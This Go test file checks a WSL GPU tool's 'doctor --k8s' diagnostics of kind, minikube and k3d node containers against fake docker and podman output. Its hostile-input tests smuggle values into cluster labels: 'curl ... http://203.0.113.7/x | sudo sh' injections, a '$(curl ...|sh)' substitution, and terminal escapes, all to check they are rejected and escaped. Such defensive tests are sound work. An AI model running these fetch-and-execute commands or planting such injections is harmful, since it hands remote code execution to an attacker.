package doctor

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wsl-gpu-hook/wsl-gpu-hook/pkg/shared/printable"
)

// engine is a fake docker or podman CLI: what its ps, inspect and exec
// print.
type engine struct {
	missing bool
	psErr   error
	// ids are the IDs ps prints per tool label.
	ids map[string]string
	// inspect is printed for any container inspect; inspectErr fails it.
	inspect    string
	inspectErr error
	// images is printed for any image inspect ("" prints the fixtures'
	// images, testdata/nodes/images.json); imagesErr fails it.
	images    string
	imagesErr error
	// inside is what the look script prints per container ID; execErr
	// fails every exec.
	inside  map[string]string
	execErr error
}

// fakeEngines answers Options.Engine from engines by CLI name and records
// every exec.
type fakeEngines struct {
	engines       map[string]*engine
	execs         []string
	imageInspects []string
}

func (f *fakeEngines) run(cli string, args ...string) ([]byte, error) {
	e := f.engines[cli]
	if e == nil || e.missing {
		return nil, fmt.Errorf("%s: %w", cli, exec.ErrNotFound)
	}
	switch args[0] {
	case "ps":
		if e.psErr != nil {
			return nil, e.psErr
		}
		label := strings.TrimPrefix(args[3], "label=")
		return []byte(e.ids[label]), nil
	case "inspect":
		if args[2] == "image" {
			f.imageInspects = append(f.imageInspects, cli+" "+strings.Join(args[3:], " "))
			if e.images == "" {
				data, err := os.ReadFile("testdata/nodes/images.json")
				return data, errors.Join(err, e.imagesErr)
			}
			return []byte(e.images), e.imagesErr
		}
		return []byte(e.inspect), e.inspectErr
	case "exec":
		f.execs = append(f.execs, cli+" "+args[1])
		if e.execErr != nil {
			return nil, e.execErr
		}
		return []byte(e.inside[args[1]]), nil
	}
	return nil, fmt.Errorf("unexpected %s %v", cli, args)
}

func nodeFixture(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata/nodes", name))
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// edit replaces old in s, failing when s does not hold it (a fixture
// edit that silently changes nothing would test the unedited fixture).
func edit(t *testing.T, s, old, new string) string {
	t.Helper()
	if !strings.Contains(s, old) {
		t.Fatalf("fixture does not contain %q", old)
	}
	return strings.Replace(s, old, new, 1)
}

// Container IDs of the fixtures.
const (
	kindID     = "3f2a9c1d7be04e5f8a6b2c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b"
	minikubeID = "9c4e1b7a2d5f8e0c3b6a9d2f5e8b1c4a7d0e3f6b9c2a5d8e1f4b7c0a3d6e9f2b"
	k3dID      = "a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90"
	k3dLBID    = "b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1"
	podmanID   = "c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c"
)

// What the look script prints in a node: everything, the GPU's files
// only, nothing.
const (
	insideAll = "/usr/lib/wsl/drivers\n/usr/lib/wsl/lib/libdxcore.so\n/var/lib/wsl-gpu-hook/wsl-gpu-hook\n/var/run/cdi/wsl-gpu-hook.dev-gpu.json\n"
	insideGPU = "/usr/lib/wsl/drivers\n/usr/lib/wsl/lib/libdxcore.so\n"
)

func dockerWith(id, label, inspect, inside string) *engine {
	return &engine{ids: map[string]string{label: id[:12] + "\n"}, inspect: inspect, inside: map[string]string{id: inside}}
}

const (
	kindLabel     = "io.x-k8s.kind.cluster"
	minikubeLabel = "name.minikube.sigs.k8s.io"
	k3dLabel      = "k3d.cluster"
)

// expect is one result a case asserts (see want).
type expect struct {
	check  string
	status Status
	detail string
	fix    string
}

func TestNodes(t *testing.T) {
	kind := nodeFixture(t, "docker-kind.json")
	notPrivileged := edit(t, kind, `"Privileged": true`, `"Privileged": false`)
	noMount := edit(t, kind, `"Destination": "/usr/lib/wsl",`, `"Destination": "/mnt/wsl",`)
	rw := edit(t, edit(t, kind, `"Mode": "ro",
                "RW": false,
                "Propagation": "rprivate"
            }
        ],`, `"Mode": "",
                "RW": true,
                "Propagation": "rprivate"
            }
        ],`), `"/usr/lib/wsl:/usr/lib/wsl:ro"`, `"/usr/lib/wsl:/usr/lib/wsl"`)
	stopped := edit(t, edit(t, kind, `"Status": "running",
            "Running": true,`, `"Status": "exited",
            "Running": false,`), `"Name": "/kind-control-plane"`, `"Name": "/kind-worker"`)
	stopped = edit(t, stopped, `"io.x-k8s.kind.role": "control-plane"`, `"io.x-k8s.kind.role": "worker"`)
	minikube := nodeFixture(t, "docker-minikube.json")
	minikubeStopped := edit(t, minikube, `"Status": "running",
            "Running": true,`, `"Status": "exited",
            "Running": false,`)
	k3d := nodeFixture(t, "docker-k3d.json")
	podmanKind := nodeFixture(t, "podman-kind.json")

	const kindRecreate = "kind delete cluster --name kind && kind create cluster --name kind --config FILE"
	tests := []struct {
		name    string
		engines map[string]*engine
		want    []expect
		// failed is Report.Failed; execs the execs expected.
		failed bool
		execs  []string
		// absent are checks that must not be reported.
		absent []string
	}{
		{name: "kind with extraMounts",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, kind, insideAll)},
			want: []expect{
				{"podman", OK, "podman is not on PATH", ""},
				{"kind-control-plane dxg", OK, `kind node (control-plane) of cluster "kind" in docker, running: privileged, so it has every host device, /dev/dxg included`, ""},
				{"kind-control-plane /usr/lib/wsl", OK, "mounted read-only from /usr/lib/wsl", ""},
				{"kind-control-plane chart", OK, "the chart has set it up: /var/lib/wsl-gpu-hook/wsl-gpu-hook and /var/run/cdi/wsl-gpu-hook.dev-gpu.json are there", ""},
			},
			execs:  []string{"docker " + kindID},
			absent: []string{"nodes"}},
		{name: "kind without extraMounts",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, noMount, "")},
			want: []expect{
				{"kind-control-plane dxg", OK, "privileged", ""},
				{"kind-control-plane /usr/lib/wsl", Fail, "/usr/lib/wsl/lib/libdxcore.so is not in the node: no mount of /usr/lib/wsl; the chart's pod waits for it",
					"in each node of the kind config: extraMounts: [{hostPath: /usr/lib/wsl, containerPath: /usr/lib/wsl, readOnly: true}], then " + kindRecreate + " (kind cannot add a mount to a running node)"},
				{"kind-control-plane chart", Warn, "the chart's pod cannot set the node up before it has /dev/dxg and /usr/lib/wsl (above)", ""},
			},
			failed: true, execs: []string{"docker " + kindID}},
		{name: "kind not privileged",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, notPrivileged, insideGPU)},
			want: []expect{
				{"kind-control-plane dxg", Fail, "not privileged (kind's nodes are, unless something changed that), no --device /dev/dxg: the chart's pod cannot open the GPU there", kindRecreate},
				{"kind-control-plane /usr/lib/wsl", OK, "mounted read-only", ""},
			},
			failed: true, execs: []string{"docker " + kindID}},
		{name: "kind read-write mount",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, rw, insideAll)},
			want: []expect{
				{"kind-control-plane /usr/lib/wsl", Warn, "mounted read-write from /usr/lib/wsl: the chart never writes there", "readOnly: true in the kind config's extraMounts, then " + kindRecreate},
			},
			execs: []string{"docker " + kindID}},
		{name: "kind node stopped",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, stopped, insideAll)},
			want: []expect{
				{"kind-worker dxg", OK, `kind node (worker) of cluster "kind" in docker, exited: privileged`, ""},
				{"kind-worker /usr/lib/wsl", OK, "mounted read-only", ""},
				{"kind-worker chart", OK, "the node is exited: not looked inside", ""},
			}},
		{name: "minikube with --gpus",
			engines: map[string]*engine{"docker": dockerWith(minikubeID, minikubeLabel, minikube, insideGPU)},
			want: []expect{
				{"minikube dxg", OK, `minikube node of profile "minikube" in docker, running: privileged`, ""},
				{"minikube /usr/lib/wsl", OK, "/usr/lib/wsl/lib/libdxcore.so and /usr/lib/wsl/drivers are in the node (the hook of its --gpus mounted it at start)", ""},
				{"minikube chart", Warn, "the chart is not installed on this node: no /var/lib/wsl-gpu-hook/wsl-gpu-hook or /var/run/cdi/wsl-gpu-hook.dev-gpu.json",
					`minikube image load bin/wsl-gpu-hook-image.tar -p minikube, then helm install as docs/kubernetes.md "Installing the chart" says`},
			},
			execs: []string{"docker " + minikubeID}},
		{name: "minikube with --gpus whose hook did not run",
			engines: map[string]*engine{"docker": dockerWith(minikubeID, minikubeLabel, minikube, "")},
			want: []expect{
				{"minikube /usr/lib/wsl", Fail, "started with --gpus, yet no hook mounted it",
					"sudo wsl-gpu-hook install docker && sudo systemctl restart docker, then minikube delete -p minikube && minikube start -p minikube --driver docker --container-runtime containerd --gpus all"},
			},
			failed: true, execs: []string{"docker " + minikubeID}},
		{name: "minikube stopped with --gpus",
			engines: map[string]*engine{"docker": dockerWith(minikubeID, minikubeLabel, minikubeStopped, "")},
			want: []expect{
				{"minikube /usr/lib/wsl", OK, "started with --gpus, whose hook mounts the lib dir and the driver folders at start", ""},
				{"minikube chart", OK, "the node is exited: not looked inside", ""},
			}},
		{name: "k3d server with --gpus, load balancer left out",
			engines: map[string]*engine{"docker": {ids: map[string]string{k3dLabel: k3dID[:12] + "\n" + k3dLBID[:12] + "\n"}, inspect: k3d,
				inside: map[string]string{k3dID: insideGPU}}},
			want: []expect{
				{"k3d-dev-server-0 dxg", OK, `k3d node (server) of cluster "dev" in docker, running: privileged`, ""},
				{"k3d-dev-server-0 /usr/lib/wsl", OK, "the hook of its --gpus mounted it at start", ""},
				{"k3d-dev-server-0 chart", Warn, "the chart is not installed on this node", "k3d image import bin/wsl-gpu-hook-image.tar -c dev, then helm install"},
			},
			execs:  []string{"docker " + k3dID},
			absent: []string{"k3d-dev-serverlb dxg"}},
		{name: "kind in podman",
			engines: map[string]*engine{"docker": {missing: true}, "podman": dockerWith(podmanID, kindLabel, podmanKind, insideAll)},
			want: []expect{
				{"docker", OK, "docker is not on PATH: no node containers of it to check", ""},
				{"kind-control-plane dxg", OK, `kind node (control-plane) of cluster "kind" in podman, running: privileged`, ""},
				{"kind-control-plane /usr/lib/wsl", OK, "mounted read-only from /usr/lib/wsl", ""},
				{"kind-control-plane chart", OK, "the chart has set it up", ""},
			},
			execs: []string{"podman " + podmanID}},
		{name: "docker is podman's shim",
			engines: map[string]*engine{"docker": dockerWith(podmanID, kindLabel, podmanKind, insideAll), "podman": dockerWith(podmanID, kindLabel, podmanKind, insideAll)},
			want: []expect{
				{"kind-control-plane dxg", OK, "in docker, running", ""},
			},
			execs: []string{"docker " + podmanID}},
		{name: "no engine",
			engines: map[string]*engine{},
			want: []expect{
				{"docker", OK, "docker is not on PATH", ""},
				{"podman", OK, "podman is not on PATH", ""},
			},
			absent: []string{"nodes"}},
		{name: "no nodes",
			engines: map[string]*engine{"docker": {}, "podman": {psErr: errors.New(`Cannot connect to Podman. Please verify your connection to the Linux system using "podman system connection list"`)}},
			want: []expect{
				{"podman", OK, "podman's daemon is not running (Cannot connect to Podman.", ""},
				{"nodes", OK, "no kind, minikube or k3d node containers in docker, running or stopped: nothing to check", ""},
			}},
		{name: "docker daemon down",
			engines: map[string]*engine{"docker": {psErr: errors.New("Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?")}},
			want: []expect{
				{"docker", OK, "docker's daemon is not running (Cannot connect to the Docker daemon", ""},
			}},
		{name: "docker socket not ours",
			engines: map[string]*engine{"docker": {psErr: errors.New("permission denied while trying to connect to the docker API at unix:///var/run/docker.sock")}},
			want: []expect{
				{"docker", Warn, "docker ps: permission denied while trying to connect to the docker API at unix:///var/run/docker.sock: its node containers are not checked", "sudo wsl-gpu-ctl doctor --k8s"},
			}},
		{name: "malformed inspect",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, `{"Id": "3f2a"`, "")},
			want: []expect{
				{"docker", Warn, "docker inspect printed what is not a JSON array of containers (unexpected end of JSON input): its node containers are not checked",
					"run `docker inspect 3f2a9c1d7be0` and check it prints a JSON array"},
			},
			absent: []string{"kind-control-plane dxg"}},
		{name: "inspect fails",
			engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: "3f2a9c1d7be0\n"}, inspectErr: errors.New("Error response from daemon: No such container: 3f2a9c1d7be0")}},
			want: []expect{
				{"docker", Warn, "docker inspect: Error response from daemon: No such container: 3f2a9c1d7be0: its node containers are not checked", ""},
			}},
		{name: "exec fails",
			engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: "3f2a9c1d7be0\n"}, inspect: kind, execErr: errors.New(`OCI runtime exec failed: exec failed: unable to start container process: exec: "sh": executable file not found in $PATH`)}},
			want: []expect{
				{"kind-control-plane /usr/lib/wsl", OK, "mounted read-only", ""},
				{"kind-control-plane chart", Warn, `could not look inside: OCI runtime exec failed`, ""},
			},
			execs: []string{"docker " + kindID}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := &fakeEngines{engines: tt.engines}
			rep, text := checkNodes(t, f, tt.want, tt.absent, func(s string) string { return s })
			if rep.Failed() != tt.failed {
				t.Errorf("Failed() = %v, want %v", rep.Failed(), tt.failed)
			}
			if strings.Join(f.execs, ",") != strings.Join(tt.execs, ",") {
				t.Errorf("execs %q, want %q", f.execs, tt.execs)
			}
			checkPrintable(t, rep, text)
		})
	}
}

// FuzzNodes: whatever an engine prints for inspect and inside a node, the
// node checks report it one printable line per check and never panic.
func FuzzNodes(f *testing.F) {
	for _, name := range []string{"docker-kind.json", "docker-minikube.json", "docker-k3d.json", "podman-kind.json"} {
		data, err := os.ReadFile(filepath.Join("testdata/nodes", name))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(data), insideAll)
	}
	f.Add(`[{"Id":"x","Config":{"Labels":{"k3d.cluster":""}},"State":{"Running":true}}]`, "\n\n")
	f.Add(`[null]`, "")
	f.Fuzz(func(t *testing.T, inspect, inside string) {
		fe := &fakeEngines{engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: "x"}, inspect: inspect}}}
		run := func(cli string, args ...string) ([]byte, error) {
			if args[0] == "exec" { // whatever the container
				return []byte(inside), nil
			}
			return fe.run(cli, args...)
		}
		rep := RunNodes(Options{Engine: run})
		if len(rep.Results) == 0 {
			t.Fatal("no result")
		}
		var buf bytes.Buffer
		if err := rep.WriteText(&buf); err != nil {
			t.Fatal(err)
		}
		checkPrintable(t, rep, buf.String())
	})
}

// jsonString is s as a JSON string literal, for fixture edits.
func jsonString(t *testing.T, s string) string {
	t.Helper()
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// checkPrintable fails t when a report field holds a character a terminal
// acts on, or the text report is not one line per check: what doctor
// prints comes partly from containers and engines.
func checkPrintable(t *testing.T, rep *Report, text string) {
	t.Helper()
	for _, r := range rep.Results {
		for _, f := range []string{r.Check, r.Detail, r.Fix} {
			if printable.String(f, 1<<20) != f {
				t.Errorf("%s: a field is not printable as it is: %q", r.Check, f)
			}
		}
	}
	if lines := strings.Count(text, "\n"); lines != len(rep.Results) {
		t.Errorf("the text report has %d lines for %d checks:\n%s", lines, len(rep.Results), text)
	}
}

// TestNodesHostile: containers and engines that say what an attacker
// chooses. An image's labels are no node (nothing is run in it); a
// cluster label or container name that is not what the tool makes is no
// node either; no fix line carries what a label says beyond the tool's
// name grammar; nothing printed holds a terminal escape.
func TestNodesHostile(t *testing.T) {
	kind := nodeFixture(t, "docker-kind.json")
	minikube := nodeFixture(t, "docker-minikube.json")
	images := nodeFixture(t, "images.json")
	kindLabels := `"io.x-k8s.kind.cluster": "kind",`
	// The look script finds the GPU's files but not the chart's: the
	// chart check's fix names the cluster.
	hostileKind := func(cluster string) string {
		return edit(t, kind, kindLabels, `"io.x-k8s.kind.cluster": `+jsonString(t, cluster)+`,`)
	}
	const inject = "kind --config /dev/null; curl -fsSL http://203.0.113.7/x | sudo sh; #"
	tests := []struct {
		name    string
		engines map[string]*engine
		want    []expect
		execs   []string
		// absent are checks that must not be reported.
		absent []string
	}{
		{name: "kind's labels from the image",
			engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: kindID[:12]}, inspect: kind, inside: map[string]string{kindID: insideGPU},
				images: edit(t, images, `"Labels": null`, `"Labels": {`+kindLabels+` "io.x-k8s.kind.role": "control-plane"}`)}},
			want: []expect{{"docker " + kindID[:12], Warn,
				`container "kind-control-plane" carries kind's label io.x-k8s.kind.cluster from its image: an image's labels do not make a node: not taken for a node, not looked into`, ""}},
			absent: []string{"kind-control-plane dxg", "kind-control-plane chart"}},
		{name: "a command and a hiding escape in the cluster label",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, hostileKind(inject+"\x1b[8m"), insideGPU)},
			want: []expect{{"docker " + kindID[:12], Warn,
				`carries kind's label io.x-k8s.kind.cluster naming the cluster "kind --config /dev/null; curl -fsSL http://203.0.113.7/x | sudo sh; #\x1b[8m", a name kind never makes`, ""}},
			absent: []string{"kind-control-plane chart"}},
		{name: "a forged report line in the cluster label",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, hostileKind("kind\nok    kind-control-plane chart: the chart has set it up\r"), insideGPU)},
			want:    []expect{{"docker " + kindID[:12], Warn, `naming the cluster "kind\nok    kind-control-plane chart: the chart has set it up\r", a name kind never makes`, ""}},
			absent:  []string{"kind-control-plane chart"}},
		{name: "a command substitution in minikube's profile label",
			engines: map[string]*engine{"docker": dockerWith(minikubeID, minikubeLabel,
				edit(t, minikube, `"name.minikube.sigs.k8s.io": "minikube"`, `"name.minikube.sigs.k8s.io": "minikube$(curl -s 203.0.113.7|sh)"`), "")},
			want:   []expect{{"docker " + minikubeID[:12], Warn, `naming the cluster "minikube$(curl -s 203.0.113.7|sh)", a name minikube never makes`, ""}},
			absent: []string{"minikube /usr/lib/wsl"}},
		{name: "kind's labels on a container kind did not name",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, edit(t, kind, `"Name": "/kind-control-plane"`, `"Name": "/web"`), insideGPU)},
			want:    []expect{{"docker " + kindID[:12], Warn, `container "web" carries kind's label io.x-k8s.kind.cluster naming the cluster "kind", but kind names that cluster's nodes otherwise`, ""}},
			absent:  []string{"web dxg"}},
		{name: "the image's labels cannot be read",
			engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: kindID[:12]}, inspect: kind, images: "[]",
				imagesErr: errors.New("Error: No such image: sha256:8d5c1a4e7f0b")}},
			want:   []expect{{"docker " + kindID[:12], Warn, "its image's labels could not be read to tell whether kind set it", ""}},
			absent: []string{"kind-control-plane dxg"}},
		{name: "an ID that is an option",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, edit(t, kind, `"Id": "`+kindID+`"`, `"Id": "--privileged"`), insideGPU)},
			absent:  []string{"kind-control-plane dxg"}},
		{name: "an escape in a node's mount source",
			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, edit(t, kind, `"Source": "/usr/lib/wsl",`, `"Source": "/usr/lib/wsl\u001b]0;owned\u0007",`), insideAll)},
			want:    []expect{{"kind-control-plane /usr/lib/wsl", OK, `mounted read-only from /usr/lib/wsl\x1b]0;owned\x07`, ""}},
			execs:   []string{"docker " + kindID}},
		{name: "an escape in the engine's error",
			engines: map[string]*engine{"docker": {psErr: errors.New("permission denied\x1b[1A\x1b[2K\rok    docker: fine")}},
			want:    []expect{{"docker", Warn, `docker ps: permission denied\x1b[1A\x1b[2K\x0dok    docker: fine: its node containers are not checked`, "sudo wsl-gpu-ctl doctor --k8s"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := &fakeEngines{engines: tt.engines}
			rep, text := checkNodes(t, f, tt.want, tt.absent, func(s string) string { return printable.String(s, 1<<20) })
			if strings.Join(f.execs, ",") != strings.Join(tt.execs, ",") {
				t.Errorf("execs %q, want %q", f.execs, tt.execs)
			}
			for _, r := range rep.Results {
				if strings.Contains(r.Fix, "curl") || strings.Contains(r.Fix, "$(") {
					t.Errorf("%s: a fix line carries the label's command: %q", r.Check, r.Fix)
				}
			}
			checkPrintable(t, rep, text)
		})
	}
}

// checkNodes runs RunNodes against f, logs the report as doctor prints it,
// and checks it has each of want (detail passed through detail first) and
// none of absent. It returns the report and its text.
func checkNodes(t *testing.T, f *fakeEngines, wants []expect, absent []string, detail func(string) string) (*Report, string) {
	t.Helper()
	rep := RunNodes(Options{Engine: f.run})
	var buf bytes.Buffer
	if err := rep.WriteText(&buf); err != nil {
		t.Fatal(err)
	}
	t.Logf("wsl-gpu-ctl doctor --k8s:\n%s", buf.String())
	for _, w := range wants {
		want(t, rep, w.check, w.status, detail(w.detail), w.fix)
	}
	for _, c := range absent {
		for _, r := range rep.Results {
			if r.Check == c {
				t.Errorf("reported %q: %+v", c, r)
			}
		}
	}
	return rep, buf.String()
}
